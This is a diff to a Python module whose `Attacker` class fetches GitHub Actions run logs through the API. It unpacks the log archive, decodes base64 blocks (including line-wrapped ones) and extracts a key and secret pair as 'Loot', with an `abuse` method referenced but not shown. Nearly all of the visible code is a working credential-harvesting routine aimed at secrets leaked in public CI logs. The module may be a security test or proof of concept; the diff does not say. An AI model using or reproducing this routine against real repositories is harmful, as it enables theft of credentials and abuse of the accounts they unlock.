@@ -4,12 +4,13 @@ from __future__ import annotations
 
 import base64
 import binascii
+import contextlib
 import io
 import json
 import re
 import secrets
 import zipfile
-from collections.abc import Callable
+from collections.abc import Callable, Iterator
 from dataclasses import dataclass
 from typing import Any
 from urllib.parse import urlsplit
@@ -66,22 +67,10 @@ class Attacker:
 
     def read_log(self, run_url: str) -> Loot:
         """The key in a run's public log. Raises ``NothingFound`` when there is none to be had."""
-        where = _RUN.fullmatch(urlsplit(run_url).path)
-        if where is None:
-            raise NothingFound(f"{run_url!r} is not the address of a run")
-        with requests.Session() as session:
-            session.trust_env = False
-            found = session.get(
-                f"{self._github}/repos/{where[1]}/actions/runs/{where[2]}/logs",
-                headers={"Authorization": f"Bearer {self._token}"}, timeout=20,
-            )  # fmt: skip
-        if found.status_code != requests.codes.ok:
-            raise NothingFound(f"the log answers {found.status_code}")
-        with zipfile.ZipFile(io.BytesIO(found.content)) as archive:
-            for name in archive.namelist():
-                loot = _decoded_key(archive.read(name).decode(errors="replace"))
-                if loot:
-                    return loot
+        for text in decoded_log(self._github, self._token, run_url):
+            key, secret = _KEY.search(text), _SECRET.search(text)
+            if key and secret:
+                return Loot(key[1], secret[1])
         raise NothingFound("no key in the log")
 
     def abuse(self, run_url: str) -> list[dict[str, Any]]:
@@ -158,18 +147,26 @@ def _code(call: Callable[[], Any]) -> str:
     return ""
 
 
-def _decoded_key(log: str) -> Loot | None:
-    """A key in a log, in base64 that may be wrapped over lines."""
-    plain = _LINE.sub("", log).replace("\r", "")
-    for block in re.findall(r"(?:^[A-Za-z0-9+/]{20,}={0,2}\n?)+", plain, re.MULTILINE):
-        try:
-            text = base64.b64decode(re.sub(r"\s", "", block)).decode(errors="replace")
-        except binascii.Error:
-            continue
-        key, secret = _KEY.search(text), _SECRET.search(text)
-        if key and secret:
-            return Loot(key[1], secret[1])
-    return None
+def decoded_log(github: str, token: str, run_url: str) -> Iterator[str]:
+    """What stands as base64 in a run's public log, which may be wrapped over lines. Raises ``NothingFound``."""
+    where = _RUN.fullmatch(urlsplit(run_url).path)
+    if where is None:
+        raise NothingFound(f"{run_url!r} is not the address of a run")
+    with requests.Session() as session:
+        session.trust_env = False
+        found = session.get(
+            f"{github}/repos/{where[1]}/actions/runs/{where[2]}/logs",
+            headers={"Authorization": f"Bearer {token}"}, timeout=20,
+        )  # fmt: skip
+    if found.status_code != requests.codes.ok:
+        raise NothingFound(f"the log answers {found.status_code}")
+    with zipfile.ZipFile(io.BytesIO(found.content)) as archive:
+        for name in archive.namelist():
+            plain = _LINE.sub("", archive.read(name).decode(errors="replace")).replace("\r", "")
+            for block in re.findall(r"^(?:[A-Za-z0-9+/]{20,}\n)*[A-Za-z0-9+/]+={0,2}$", plain, re.MULTILINE):
+                packed = re.sub(r"\s", "", block)
+                with contextlib.suppress(binascii.Error):  # a word that stands alone in a line
+                    yield base64.b64decode(packed[: len(packed) // 4 * 4]).decode(errors="replace")
 
 
 def _everything() -> str:
